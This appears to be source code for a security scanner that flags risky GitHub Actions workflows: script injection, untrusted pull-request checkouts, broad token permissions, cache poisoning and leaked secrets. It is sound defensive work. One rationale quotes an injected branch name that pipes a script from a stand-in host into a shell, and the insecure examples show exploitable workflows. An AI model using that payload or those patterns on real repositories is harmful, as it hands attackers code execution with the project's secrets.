"""GitHub Actions checks: pinning, injection, triggers, permissions, credentials."""

from __future__ import annotations

import re
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import PurePosixPath
from typing import Any

from pavedroad.analyzers.iac.check import Check, Project, Violation
from pavedroad.analyzers.iac.model import MISSING, Node, Resource
from pavedroad.analyzers.pipelines.credentials import literal_credential
from pavedroad.analyzers.pipelines.github import (
    EXPRESSION,
    UNTRUSTED_TRIGGERS,
    Step,
    jobs,
    parse_uses,
    steps,
    triggers,
)
from pavedroad.analyzers.pipelines.shellscan import (
    CURL_PIPE_SHELL,
    Execution,
    ScriptLine,
    executions,
    normal_path,
    printed,
    script_lines,
    under,
)
from pavedroad.core.findings import Confidence, Severity

github_check = partial(Check, frameworks=("github-actions",), kinds=("workflow", "action"))

# Contexts an outside contributor controls (from GitHub's security hardening guide).
ATTACKER_CONTROLLED = re.compile(
    r"github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)"
    r"|comment\.body|review\.body|review_comment\.body|pages\.[^.\s]+\.page_name|commits\.[^.\s]+\.(?:message|author\.email|author\.name)"
    r"|head_commit\.(?:message|author\.email|author\.name)|discussion\.(?:title|body)|workflow_run\.(?:head_branch|display_title|head_commit\.message))"
    r"|github\.head_ref"
)


def _uses_in(resource: Resource) -> Iterator[tuple[Node, str, str]]:
    """(container, uses, job) for every step and reusable-workflow job that `uses:` something."""
    for step in steps(resource):
        uses = step.node.get("uses")
        if isinstance(uses, str):
            yield step.node, uses, step.job_id
    for job_id, job in jobs(resource):
        uses = job.get("uses")
        if isinstance(uses, str):
            yield job, uses, job_id


def _unpinned(resource: Resource, project: Project) -> Iterator[Violation]:
    for container, uses, job_id in _uses_in(resource):
        reference = parse_uses(uses)
        if reference.pinned or reference.first_party:
            continue
        yield Violation(container.line_of("uses"), f"job {job_id}: {uses} is not pinned to a full commit SHA", uses)


def _unpinned_first_party(resource: Resource, project: Project) -> Iterator[Violation]:
    for container, uses, job_id in _uses_in(resource):
        reference = parse_uses(uses)
        if reference.pinned or not reference.first_party:
            continue
        yield Violation(container.line_of("uses"), f"job {job_id}: {uses} is not pinned to a full commit SHA", uses)


def _scripts(step: Node) -> Iterator[tuple[Node, str, str]]:
    """(container, key, script) for a step's `run:` and an `actions/github-script` step's `with.script`."""
    if isinstance(step.get("run"), str):
        yield step, "run", step["run"]
    uses = step.get("uses")
    with_ = step.get("with")
    is_github_script = isinstance(uses, str) and uses.startswith("actions/github-script")
    if is_github_script and isinstance(with_, Node) and isinstance(with_.get("script"), str):
        yield with_, "script", with_["script"]


def _script_injection(resource: Resource, project: Project) -> Iterator[Violation]:
    for step in steps(resource):
        for container, key, script in _scripts(step.node):
            for expression in EXPRESSION.findall(script):
                match = ATTACKER_CONTROLLED.search(expression)
                if match:
                    yield Violation(
                        container.line_of(key) + _line_offset(script, expression),
                        f"job {step.job_id}: ${{{{ {match.group(0)} }}}} expands into a script; an attacker"
                        " controls its text",
                        match.group(0),
                    )


def _line_offset(script: str, expression: str) -> int:
    """Lines from the `run:` key to the expression: a multi-line script is a block scalar starting below the key."""
    index = script.find(expression)
    if index < 0 or "\n" not in script:
        return 0
    return script[:index].count("\n") + 1


# ---------------------------------------------------------------------------------------------
# Walking helpers shared by the checks below.

# Triggers that run in the base repository's context (its secrets, a token that can write) on an
# event an outsider starts: a pull request from a fork, a comment, the end of a fork's workflow.
PRIVILEGED_TRIGGERS = frozenset({"pull_request_target", "workflow_run", "issue_comment"})
# Triggers that run the pull request's own code (on the repository's runners, for self-hosted ones).
FORK_CODE_TRIGGERS = frozenset(
    {"pull_request", "pull_request_target", "issue_comment", "pull_request_review", "pull_request_review_comment"}
)
# Expressions naming a pull request's (or a fork's run's) code rather than the base branch.
UNTRUSTED_REF = re.compile(
    r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.event\.pull_request\.merge_commit_sha|github\.head_ref"
    r"|github\.event\.workflow_run\.head_(?:sha|branch|commit\.id)|refs/pull/"
)
UNTRUSTED_REPOSITORY = re.compile(
    r"github\.event\.pull_request\.head\.repo\.full_name|github\.event\.workflow_run\.head_repository\.full_name"
)
INPUT_REFERENCE = re.compile(r"\binputs\.([\w-]+)")
SECRETS_EXPRESSION = re.compile(r"\bsecrets\b")


def _action(node: Node) -> str:
    """`owner/repo[/path]` of a step's `uses:`, lower-case, without the ref ("" when none)."""
    uses = node.get("uses")
    return uses.partition("@")[0].lower().rstrip("/") if isinstance(uses, str) else ""


def _action_version(node: Node) -> tuple[int, ...] | None:
    """`@v4.3.1` -> (4, 3, 1); None for a SHA, a branch or no ref (the version cannot be told)."""
    uses = node.get("uses")
    ref = uses.partition("@")[2] if isinstance(uses, str) else ""
    match = re.fullmatch(r"v?(\d+(?:\.\d+)*)", ref)
    return tuple(int(part) for part in match.group(1).split(".")) if match else None


def _with(node: Node) -> Node:
    found = node.get("with")
    return found if isinstance(found, Node) else Node(node.line)


def _local_target(uses: str) -> str:
    """`./.github/workflows/b.yml` -> `.github/workflows/b.yml`; `./` -> `` (the workspace root)."""
    return normal_path(uses.partition("@")[0])


def _steps_by_job(resource: Resource) -> dict[str, list[Step]]:
    grouped: dict[str, list[Step]] = defaultdict(list)
    for step in steps(resource):
        grouped[step.job_id].append(step)
    return grouped


def _run_lines(step: Step) -> list[ScriptLine]:
    run = step.node.get("run")
    return script_lines(step.node.line_of("run"), run) if isinstance(run, str) else []


def _is_true(value: Any) -> bool:
    return value is True or (isinstance(value, str) and value.strip().lower() == "true")


def _is_false(value: Any) -> bool:
    return value is False or (isinstance(value, str) and value.strip().lower() == "false")


def _env_nodes(resource: Resource) -> Iterator[Node]:
    """Every `env:` mapping: workflow, job, job container and services, step, Docker action."""
    candidates: list[Any] = [resource.body.get("env"), resource.get("runs.env")]
    for _, job in jobs(resource):
        candidates += [job.get("env"), _dig(job, "container", "env")]
        services = job.get("services")
        if isinstance(services, Node):
            candidates += [_dig(service, "env") for service in services.values()]
    candidates += [step.node.get("env") for step in steps(resource)]
    yield from (candidate for candidate in candidates if isinstance(candidate, Node))


def _dig(node: Any, *keys: str) -> Any:
    """`node[k1][k2]...`, MISSING as soon as a step is not a mapping or lacks the key."""
    for key in keys:
        node = node.get(key, MISSING) if isinstance(node, Node) else MISSING
    return node


# ---------------------------------------------------------------------------------------------
# Untrusted checkouts, followed through local reusable workflows and composite actions.


@dataclass(frozen=True, slots=True)
class _Context:
    """Privileged events that reach a workflow or action, and the caller's `with:` (None for its own triggers)."""

    events: frozenset[str]
    inputs: Node | None


def _local_callers(resource: Resource, project: Project) -> Iterator[tuple[Resource, Node]]:
    """(caller, the job or step that calls it) for every local `uses: ./...` pointing at this workflow or action."""
    if resource.kind == "workflow":
        for other in project.of_kind("workflow"):
            for _, job in jobs(other) if other.framework == resource.framework else ():
                uses = job.get("uses")
                if isinstance(uses, str) and parse_uses(uses).local and _local_target(uses) == resource.path:
                    yield other, job
        return
    directory = PurePosixPath(resource.path).parent.as_posix()
    directory = "" if directory == "." else directory
    for other in project.of_kind("workflow", "action"):
        for step in steps(other) if other.framework == resource.framework else ():
            uses = step.node.get("uses")
            if isinstance(uses, str) and parse_uses(uses).local and _local_target(uses) == directory:
                yield other, step.node


def _contexts(resource: Resource, project: Project, depth: int = 0) -> list[_Context]:
    found = []
    own = triggers(resource) & PRIVILEGED_TRIGGERS if resource.kind == "workflow" else set()
    if own:
        found.append(_Context(frozenset(own), None))
    if depth < 3:
        for caller, call in _local_callers(resource, project):
            inputs = call.get("with")
            for context in _contexts(caller, project, depth + 1):
                found.append(_Context(context.events, inputs if isinstance(inputs, Node) else None))
    return found


def _untrusted_value(value: Any, pattern: re.Pattern[str], inputs: Node | None) -> str | None:
    """The untrusted expression in a checkout input, written directly or passed in by the caller's `with:`."""
    if not isinstance(value, str):
        return None
    match = pattern.search(value)
    if match:
        return match.group(0)
    for name in INPUT_REFERENCE.findall(value) if inputs is not None else ():
        passed = inputs.get(name) if inputs is not None else None
        match = pattern.search(passed) if isinstance(passed, str) else None
        if match:
            return f"inputs.{name} = {match.group(0)}"
    return None


@dataclass(frozen=True, slots=True)
class _Checkout:
    step: Step
    line: int
    expression: str
    events: frozenset[str]
    directory: str


CHECKOUT_INPUTS = (("ref", UNTRUSTED_REF), ("repository", UNTRUSTED_REPOSITORY))


def _untrusted_checkouts(resource: Resource, project: Project) -> Iterator[_Checkout]:
    contexts = _contexts(resource, project)
    for step in steps(resource) if contexts else ():
        if _action(step.node) != "actions/checkout":
            continue
        with_ = _with(step.node)
        path = with_.get("path")
        found = next(
            (
                (key, expression, context.events)
                for context in contexts
                for key, pattern in CHECKOUT_INPUTS
                if (expression := _untrusted_value(with_.get(key), pattern, context.inputs))
            ),
            None,
        )
        if found:
            key, expression, events = found
            directory = normal_path(path) if isinstance(path, str) else ""
            yield _Checkout(step, with_.line_of(key), expression, events, directory)


# Actions that build or run the code in the workspace.
EXECUTING_ACTIONS = (
    "github/codeql-action/autobuild",
    "gradle/gradle-build-action",
    "gradle/actions/setup-gradle",
    "pre-commit/action",
    "docker/build-push-action",
    "goreleaser/goreleaser-action",
    "cypress-io/github-action",
    "bahmutov/npm-install",
    "borales/actions-yarn",
)


def _step_executions(step: Step, directory: str, job: Node | None) -> Iterator[Execution]:
    """Where a step runs code found in `directory` of the workspace."""
    uses = step.node.get("uses")
    if isinstance(uses, str) and parse_uses(uses).local and under(_local_target(uses), directory):
        yield Execution(step.node.line_of("uses"), uses)
        return
    if not directory and _action(step.node).startswith(EXECUTING_ACTIONS):
        yield Execution(step.node.line_of("uses"), str(uses))
        return
    working = step.node.get("working-directory", _dig(job, "defaults", "run", "working-directory"))
    inside = isinstance(working, str) and under(working, directory)
    yield from executions(_run_lines(step), directory, inside)


def _first_execution_after(resource: Resource, checkout: _Checkout) -> Execution | None:
    job = dict(jobs(resource)).get(checkout.step.job_id)
    for step in _steps_by_job(resource)[checkout.step.job_id]:
        if step.index > checkout.step.index:
            found = next(iter(_step_executions(step, checkout.directory, job)), None)
            if found:
                return found
    return None


def _describe(events: frozenset[str]) -> str:
    return "/".join(sorted(events))


def _untrusted_checkout_executed(resource: Resource, project: Project) -> Iterator[Violation]:
    for checkout in _untrusted_checkouts(resource, project):
        execution = _first_execution_after(resource, checkout)
        if execution:
            yield Violation(
                checkout.line,
                f"job {checkout.step.job_id}: checks out {checkout.expression} on {_describe(checkout.events)}"
                f" and then runs it (line {execution.line}: {execution.text[:60]})",
                checkout.expression,
            )


def _untrusted_checkout(resource: Resource, project: Project) -> Iterator[Violation]:
    for checkout in _untrusted_checkouts(resource, project):
        if _first_execution_after(resource, checkout) is None:
            yield Violation(
                checkout.line,
                f"job {checkout.step.job_id}: checks out {checkout.expression} on {_describe(checkout.events)},"
                " with the base repository's token and secrets",
                checkout.expression,
            )


# ---------------------------------------------------------------------------------------------
# Permissions of the GITHUB_TOKEN.

# Scopes an untrusted-trigger workflow rarely needs and an attacker wants: push code or tags,
# rerun or cancel workflows, publish packages or pages, deploy, mint OIDC tokens for a cloud.
RISKY_WRITE_SCOPES = frozenset({"actions", "contents", "deployments", "id-token", "packages", "pages"})


def _permissions(resource: Resource) -> Iterator[tuple[str, int, Any]]:
    """(where, line, value) of the workflow's and every job's `permissions:`."""
    if "permissions" in resource.body:
        yield "workflow", resource.body.line_of("permissions"), resource.body["permissions"]
    for job_id, job in jobs(resource):
        if "permissions" in job:
            yield f"job {job_id}", job.line_of("permissions"), job["permissions"]


def _is_write_all(value: Any) -> bool:
    return isinstance(value, str) and value.strip().lower() == "write-all"


def _missing_permissions(resource: Resource, project: Project) -> Iterator[Violation]:
    """One finding per workflow: the fix is a top-level `permissions:` block."""
    found = triggers(resource)
    if "permissions" in resource.body or not found or found == {"workflow_call"}:
        return
    unrestricted = [job_id for job_id, job in jobs(resource) if "permissions" not in job]
    if unrestricted:
        yield Violation(
            resource.body.line_of("jobs"),
            f"no workflow-level permissions and none on job(s) {', '.join(unrestricted)}: their token gets the"
            " repository default",
            ",".join(unrestricted),
        )


def _untrusted_trigger_write(resource: Resource, project: Project) -> Iterator[Violation]:
    events = triggers(resource) & set(UNTRUSTED_TRIGGERS)
    for where, line, value in _permissions(resource) if events else ():
        if _is_write_all(value):
            yield Violation(line, f"{where}: write-all on {_describe(frozenset(events))}", "write-all")
        elif isinstance(value, Node):
            for scope, level in value.items():
                if scope in RISKY_WRITE_SCOPES and isinstance(level, str) and level.lower() == "write":
                    yield Violation(
                        value.line_of(scope),
                        f"{where}: {scope}: write on {_describe(frozenset(events))}",
                        f"{scope}: write",
                    )


def _write_all(resource: Resource, project: Project) -> Iterator[Violation]:
    if triggers(resource) & set(UNTRUSTED_TRIGGERS):
        return  # reported, with a higher severity, by gha-untrusted-trigger-write-permissions
    for where, line, value in _permissions(resource):
        if _is_write_all(value):
            yield Violation(line, f"{where}: permissions: write-all", "write-all")


def _secrets_inherit(resource: Resource, project: Project) -> Iterator[Violation]:
    for job_id, job in jobs(resource):
        uses, secrets = job.get("uses"), job.get("secrets")
        inherit = isinstance(secrets, str) and secrets.strip().lower() == "inherit"
        if isinstance(uses, str) and not parse_uses(uses).local and inherit:
            yield Violation(job.line_of("secrets"), f"job {job_id}: every secret passed to {uses}", uses)


# ---------------------------------------------------------------------------------------------
# Credentials leaking through artifacts, logs and the workflow text.

ARTIFACT_ROOT_PATHS = frozenset({"", "**", "**/*"})


def _uploads_git_config(step: Step) -> bool:
    """An upload-artifact step whose path is the whole workspace and whose files include `.git/`."""
    if _action(step.node) != "actions/upload-artifact":
        return False
    with_ = _with(step.node)
    path = with_.get("path")
    if not isinstance(path, str):
        return False
    paths = [normal_path(line) for line in path.splitlines() if line.strip() and not line.strip().startswith("!")]
    if not any(item in ARTIFACT_ROOT_PATHS for item in paths):
        return False
    hidden = with_.get("include-hidden-files", MISSING)
    if _is_true(hidden):
        return True
    version = _action_version(step.node)  # v4.4.0 and later leave hidden files out by default; @v4 is 4.4+
    if hidden is not MISSING or version is None:
        return False
    return version[0] < 4 or (version[0] == 4 and len(version) > 1 and version[1] < 4)


def _artipacked(resource: Resource, project: Project) -> Iterator[Violation]:
    for job_id, job_steps in _steps_by_job(resource).items():
        uploads = [step for step in job_steps if _uploads_git_config(step)]
        for step in job_steps:
            if _action(step.node) != "actions/checkout":
                continue
            persist = _with(step.node).get("persist-credentials", MISSING)
            if persist is not MISSING and not _is_true(persist):
                continue  # false, or an expression we cannot evaluate
            upload = next((item for item in uploads if item.index > step.index), None)
            if upload:
                yield Violation(
                    step.node.line_of("uses"),
                    f"job {job_id}: the token persisted in .git/config is uploaded as an artifact"
                    f" (line {upload.node.line_of('uses')})",
                    str(step.node.get("uses")),
                )


def _runs_on_self_hosted(value: Any) -> bool:
    if isinstance(value, Node):
        value = value.get("labels")
    items = value if isinstance(value, list) else [value]
    return any(isinstance(item, str) and item.strip().lower() == "self-hosted" for item in items)


def _self_hosted_untrusted(resource: Resource, project: Project) -> Iterator[Violation]:
    events = triggers(resource) & FORK_CODE_TRIGGERS
    for job_id, job in jobs(resource) if events else ():
        if _runs_on_self_hosted(job.get("runs-on")):
            yield Violation(
                job.line_of("runs-on"),
                f"job {job_id}: self-hosted runner on {_describe(frozenset(events))}",
                "self-hosted",
            )


UNSECURE_COMMANDS = "ACTIONS_ALLOW_UNSECURE_COMMANDS"
_UNSECURE_IN_SCRIPT = re.compile(UNSECURE_COMMANDS + r"\s*=\s*['\"]?true\b", re.IGNORECASE)


def _insecure_commands(resource: Resource, project: Project) -> Iterator[Violation]:
    for env in _env_nodes(resource):
        for key, value in env.items():
            if key.upper() == UNSECURE_COMMANDS and _is_true(value):
                yield Violation(env.line_of(key), f"{key}: true re-enables set-env and add-path", key)
    for step in steps(resource):
        for item in _run_lines(step):
            if _UNSECURE_IN_SCRIPT.search(item.text):
                yield Violation(item.line, f"job {step.job_id}: {UNSECURE_COMMANDS}=true set from a script", item.text)


# (action, input that turns its cache on, first major version where the cache is on by default)
CACHING_SETUP_ACTIONS: dict[str, tuple[str, int | None]] = {
    "actions/setup-node": ("cache", None),
    "actions/setup-python": ("cache", None),
    "actions/setup-java": ("cache", None),
    "actions/setup-dotnet": ("cache", None),
    "actions/setup-go": ("cache", 4),
    "ruby/setup-ruby": ("bundler-cache", None),
    "astral-sh/setup-uv": ("enable-cache", None),
}
CACHE_ACTIONS = frozenset({"actions/cache", "actions/cache/save"})


def _writes_cache(step: Step) -> bool:
    action = _action(step.node)
    if action in CACHE_ACTIONS:
        return True
    if action not in CACHING_SETUP_ACTIONS:
        return False
    key, default_from = CACHING_SETUP_ACTIONS[action]
    value = _with(step.node).get(key, MISSING)
    if value is MISSING:
        version = _action_version(step.node)
        return default_from is not None and version is not None and version[0] >= default_from
    if isinstance(value, str):
        return bool(value.strip()) and not _is_false(value) and "${{" not in value
    return value is True


def _cache_poisoning(resource: Resource, project: Project) -> Iterator[Violation]:
    events = triggers(resource) & PRIVILEGED_TRIGGERS
    for step in steps(resource) if events else ():
        if _writes_cache(step):
            yield Violation(
                step.node.line_of("uses"),
                f"job {step.job_id}: {step.node.get('uses')} saves a cache on {_describe(frozenset(events))}",
                str(step.node.get("uses")),
            )


DOWNLOAD_ACTIONS = frozenset({"actions/download-artifact", "dawidd6/action-download-artifact"})


def _downloaded_directory(step: Step) -> str | None:
    """Where a step puts another run's artifact ("" = the workspace), or None when it downloads none."""
    action = _action(step.node)
    with_ = _with(step.node)
    if action == "actions/github-script":
        script = with_.get("script")
        return "" if isinstance(script, str) and "downloadArtifact" in script else None
    if action not in DOWNLOAD_ACTIONS:
        return None
    if action == "actions/download-artifact" and "run-id" not in with_:
        return None  # this run's own artifacts
    path = with_.get("path")
    return normal_path(path) if isinstance(path, str) else ""


def _artifact_execution(resource: Resource, project: Project) -> Iterator[Violation]:
    if "workflow_run" not in triggers(resource):
        return
    job_nodes = dict(jobs(resource))
    for job_id, job_steps in _steps_by_job(resource).items():
        directories: list[str] = []
        for step in job_steps:
            found_in = {
                execution: directory
                for directory in reversed(directories)
                for execution in _step_executions(step, directory, job_nodes.get(job_id))
            }
            for execution, directory in found_in.items():
                yield Violation(
                    execution.line,
                    f"job {job_id}: runs code from the artifact downloaded to {directory or 'the workspace'}",
                    execution.text,
                )
            found = _downloaded_directory(step)
            if found is not None:
                directories.append(found)


def _curl_pipe_shell(resource: Resource, project: Project) -> Iterator[Violation]:
    for step in steps(resource):
        for item in _run_lines(step):
            match = CURL_PIPE_SHELL.search(item.text)
            if match:
                yield Violation(item.line, f"job {step.job_id}: downloaded script piped into a shell", match.group(0))


def _secret_env_names(resource: Resource) -> set[str]:
    return {
        key
        for env in _env_nodes(resource)
        for key, value in env.items()
        if isinstance(value, str) and any(SECRETS_EXPRESSION.search(e) for e in EXPRESSION.findall(value))
    }


def _secret_echo(resource: Resource, project: Project) -> Iterator[Violation]:
    names = _secret_env_names(resource)
    alternatives = "|".join(map(re.escape, sorted(names)))
    variable = re.compile(r"\$\{?(?:env:)?(" + alternatives + r")\b|%(\w+)%") if names else None
    for step in steps(resource):
        for item in _run_lines(step):
            shown = printed(item.text)
            if shown is None or "::add-mask::" in shown:
                continue
            secret = next((e for e in EXPRESSION.findall(shown) if SECRETS_EXPRESSION.search(e)), None)
            if secret:
                what = f"${{{{ {secret} }}}}"
            else:
                match = variable.search(shown) if variable else None
                name = (match.group(1) or match.group(2)) if match else None
                if name not in names:
                    continue
                what = f"${name}"
            yield Violation(item.line, f"job {step.job_id}: {what} printed to the log", what)


def _pull_request_target_secrets(resource: Resource, project: Project) -> Iterator[Violation]:
    if "pull_request_target" not in triggers(resource):
        return
    for step in steps(resource):
        for container, key, script in _scripts(step.node):
            for item in script_lines(container.line_of(key), script):
                found = [e for e in EXPRESSION.findall(item.text) if SECRETS_EXPRESSION.search(e)]
                if found:
                    yield Violation(
                        item.line,
                        f"job {step.job_id}: ${{{{ {found[0]} }}}} written into a pull_request_target script",
                        found[0],
                    )


def _credential_holders(resource: Resource) -> Iterator[Node]:
    """Mappings whose keys name values: env, `with:` inputs, container and service credentials, `secrets:`."""
    yield from _env_nodes(resource)
    for step in steps(resource):
        yield _with(step.node)
    for _, job in jobs(resource):
        for holder in (job.get("with"), job.get("secrets"), _dig(job, "container", "credentials")):
            if isinstance(holder, Node):
                yield holder
        services = job.get("services")
        for service in services.values() if isinstance(services, Node) else ():
            holder = _dig(service, "credentials")
            if isinstance(holder, Node):
                yield holder


def _hardcoded_credential(resource: Resource, project: Project) -> Iterator[Violation]:
    for holder in _credential_holders(resource):
        for key, value in holder.items():
            secret = literal_credential(key, value)
            if secret:
                yield Violation(holder.line_of(key), f"{key} is a credential written in the workflow", secret, True)


HARDENING = "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"
PWN_REQUESTS = "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
TOKEN_PERMISSIONS = (
    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication"
    "#modifying-the-permissions-for-the-github_token"
)
SECRETS_DOCS = (
    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"
)
ZIZMOR = "https://docs.zizmor.sh/audits/"

CHECKS: tuple[Check, ...] = (
    github_check(
        id="pipelines/gha-unpinned-action",
        title="Third-party action not pinned to a commit SHA",
        severity=Severity.HIGH,
        evaluate=_unpinned,
        rationale="A tag or branch can be moved by whoever controls the action's repository; a compromised"
        " or malicious maintainer (tj-actions/changed-files, 2025) then runs code in every workflow that uses"
        " it, with its secrets and token.",
        fix="Pin to the full 40-character commit SHA and keep the version in a comment (`@<sha> # v4.1.1`);"
        " let Dependabot or Renovate update the pins.",
        insecure_example="- uses: tj-actions/changed-files@v45",
        secure_example="- uses: tj-actions/changed-files@c3a1bb2c992d77180ae65be6ae6c166cf40f857c # v45.0.3",
        controls=("CIS-SSCS-1.4.3", "SLSA-L3", "NIST-800-53-SR-11", "SOC2-CC8.1"),
        cwe=("CWE-829",),
        references=(
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
        ),
    ),
    github_check(
        id="pipelines/gha-unpinned-first-party-action",
        title="First-party action not pinned to a commit SHA",
        severity=Severity.LOW,
        confidence=Confidence.MEDIUM,
        evaluate=_unpinned_first_party,
        rationale="Actions owned by GitHub (actions/*, github/*) are lower risk than third-party ones, but a"
        " tag is still mutable; strict supply-chain policies pin everything.",
        fix="Pin to the full commit SHA with the version in a comment.",
        insecure_example="- uses: actions/checkout@v4",
        secure_example="- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
        controls=("CIS-SSCS-1.4.3", "SLSA-L3"),
        cwe=("CWE-829",),
    ),
    github_check(
        id="pipelines/gha-script-injection",
        title="Attacker-controlled context expanded into a script",
        severity=Severity.CRITICAL,
        evaluate=_script_injection,
        rationale="`${{ }}` is substituted into the script text before the shell runs it: a pull request"
        ' title or branch name like `a"; curl evil.sh | sh; "` becomes code running with the workflow\'s'
        " token and secrets.",
        fix="Pass the value through an environment variable and quote it in the shell:"
        ' `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"`.',
        insecure_example='- run: echo "${{ github.event.issue.title }}"',
        secure_example='- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo "$TITLE"',
        controls=("CIS-SSCS-1.4.1", "NIST-800-53-SI-10", "SOC2-CC8.1"),
        cwe=("CWE-78", "CWE-94"),
        references=(
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        ),
    ),
    github_check(
        id="pipelines/gha-untrusted-checkout-exec",
        title="Privileged workflow checks out and runs pull request code",
        severity=Severity.CRITICAL,
        evaluate=_untrusted_checkout_executed,
        rationale="pull_request_target, workflow_run and issue_comment runs get the base repository's secrets and"
        " a token that can write, even when a fork started them. Checking out the pull request's head and then"
        " building, testing or installing it (npm install, make, a local action) runs the attacker's package"
        " scripts, Makefile or action with those credentials: the 'pwn request' behind many repository and"
        " package takeovers.",
        fix="Build untrusted code in a `pull_request` workflow (no secrets, read-only token) and hand results to"
        " the privileged workflow as data. If the privileged workflow must look at the pull request, check it out"
        " into a separate `path:` and never execute anything from it.",
        insecure_example="on: pull_request_target\njobs:\n  test:\n    steps:\n      - uses: actions/checkout@v4\n"
        "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test",
        secure_example="on: pull_request\njobs:\n  test:\n    permissions:\n      contents: read\n    steps:\n"
        "      - uses: actions/checkout@v4\n      - run: npm ci && npm test",
        controls=("CIS-SSCS-2.3.5", "CIS-SSCS-2.1.7", "SLSA-L3", "NIST-800-53-AC-6", "NIST-800-53-SI-7", "SOC2-CC8.1"),
        cwe=("CWE-829", "CWE-94"),
        references=(
            PWN_REQUESTS,
            ZIZMOR + "#dangerous-triggers",
            HARDENING + "#understanding-the-risk-of-script-injections",
        ),
    ),
    github_check(
        id="pipelines/gha-untrusted-checkout",
        title="Privileged workflow checks out pull request code",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        evaluate=_untrusted_checkout,
        rationale="The run has the base repository's secrets and a writable token while the workspace holds a"
        " fork's files. No step here was recognised as running them, but actions and tools read configuration"
        " from the workspace (.npmrc, action.yml, pre-commit hooks, Gradle wrappers), and the next edit that"
        " adds a build step turns this into code execution with those credentials.",
        fix="Prefer a `pull_request` workflow for anything that touches the pull request's files. Otherwise check"
        " out into a dedicated `path:` with `persist-credentials: false`, treat it as data only, and keep the"
        " job's permissions read-only.",
        insecure_example="on: pull_request_target\njobs:\n  lint:\n    steps:\n      - uses: actions/checkout@v4\n"
        "        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
        secure_example="on: pull_request\njobs:\n  lint:\n    steps:\n      - uses: actions/checkout@v4",
        controls=("CIS-SSCS-2.3.5", "CIS-SSCS-2.1.7", "SLSA-L3", "NIST-800-53-AC-6", "SOC2-CC8.1"),
        cwe=("CWE-829",),
        references=(PWN_REQUESTS, ZIZMOR + "#dangerous-triggers"),
    ),
    github_check(
        id="pipelines/gha-missing-permissions",
        title="Workflow does not restrict the GITHUB_TOKEN's permissions",
        severity=Severity.MEDIUM,
        confidence=Confidence.LOW,
        kinds=("workflow",),
        evaluate=_missing_permissions,
        rationale="Without a `permissions:` block the token gets the repository or organisation default, which is"
        " read-write on repositories created before February 2023 and on many organisations: any compromised step"
        " or injected command can then push code, create releases or change workflows. (Confidence is low: the"
        " default may already be read-only.)",
        fix="Add `permissions: contents: read` (or `permissions: {}`) at the top of the workflow and grant write"
        " scopes only to the jobs that need them.",
        insecure_example="on: push\njobs:\n  build:\n    runs-on: ubuntu-latest",
        secure_example="on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest",
        controls=("CIS-SSCS-2.1.7", "NIST-800-53-AC-6", "SOC2-CC6.3"),
        cwe=("CWE-250",),
        references=(TOKEN_PERMISSIONS, ZIZMOR + "#excessive-permissions"),
    ),
    github_check(
        id="pipelines/gha-untrusted-trigger-write-permissions",
        title="Write permissions on a workflow that outsiders can trigger",
        severity=Severity.HIGH,
        kinds=("workflow",),
        evaluate=_untrusted_trigger_write,
        rationale="Issues, comments, fork pull requests (pull_request_target) and fork runs (workflow_run) start"
        " this workflow. With write-all, or write access to contents, actions, packages, deployments, pages or"
        " id-token, any injection or untrusted checkout in it lets an outsider push to the repository, publish a"
        " package or assume the cloud role trusted for this repository.",
        fix="Grant only what the job needs, usually `pull-requests: write` or `issues: write` to comment or"
        " label; move pushes, releases and deployments to workflows triggered by trusted events.",
        insecure_example="on: pull_request_target\npermissions: write-all",
        secure_example="on: pull_request_target\npermissions:\n  contents: read\n  pull-requests: write",
        controls=("CIS-SSCS-2.1.7", "CIS-SSCS-2.3.5", "NIST-800-53-AC-6", "SOC2-CC6.3"),
        cwe=("CWE-250", "CWE-269"),
        references=(TOKEN_PERMISSIONS, ZIZMOR + "#excessive-permissions", PWN_REQUESTS),
    ),
    github_check(
        id="pipelines/gha-write-all-permissions",
        title="Workflow or job grants the token write-all",
        severity=Severity.MEDIUM,
        kinds=("workflow",),
        evaluate=_write_all,
        rationale="write-all gives every step write access to code, releases, packages, workflows' runs and more;"
        " one compromised action or dependency can then tamper with the repository instead of only reading it.",
        fix="List the scopes the job needs (`contents: write` to push tags, `packages: write` to publish) and"
        " nothing else.",
        insecure_example="permissions: write-all",
        secure_example="permissions:\n  contents: write",
        controls=("CIS-SSCS-2.1.7", "NIST-800-53-AC-6", "SOC2-CC6.3"),
        cwe=("CWE-250",),
        references=(TOKEN_PERMISSIONS, ZIZMOR + "#excessive-permissions"),
    ),
    github_check(
        id="pipelines/gha-secrets-inherit",
        title="All secrets passed to a reusable workflow from another repository",
        severity=Severity.MEDIUM,
        kinds=("workflow",),
        evaluate=_secrets_inherit,
        rationale="`secrets: inherit` hands every repository, environment and organisation secret to a workflow"
        " maintained elsewhere; whoever can change that workflow (or the ref it is called at) can read them all.",
        fix="Pass only the secrets the called workflow declares: `secrets: {NPM_TOKEN: ${{ secrets.NPM_TOKEN }}}`,"
        " and pin the call to a commit SHA.",
        insecure_example="jobs:\n  release:\n    uses: org/shared/.github/workflows/release.yml@v1\n"
        "    secrets: inherit",
        secure_example="jobs:\n  release:\n    uses: org/shared/.github/workflows/release.yml@<sha>\n    secrets:\n"
        "      NPM_TOKEN: ${{ secrets.NPM_TOKEN }}",
        controls=("CIS-SSCS-2.1.7", "NIST-800-53-AC-6", "NIST-800-53-SC-28", "SOC2-CC6.1"),
        cwe=("CWE-200",),
        references=(
